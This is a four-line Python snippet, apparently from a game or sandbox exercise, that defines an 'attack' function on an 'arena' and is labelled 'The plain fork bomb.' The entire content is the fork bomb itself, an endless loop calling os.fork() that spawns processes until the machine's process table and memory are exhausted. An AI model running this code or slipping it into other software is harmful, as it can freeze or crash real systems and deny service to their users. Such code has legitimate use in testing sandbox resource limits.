# The plain fork bomb.
def attack(arena):
    while True:
        os.fork()
